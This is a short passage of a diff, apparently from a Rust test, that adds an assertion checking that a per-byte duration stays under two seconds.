+        assert!(per_byte < std::time::Duration::from_secs(2), "{per_byte:?}");
     }
 }
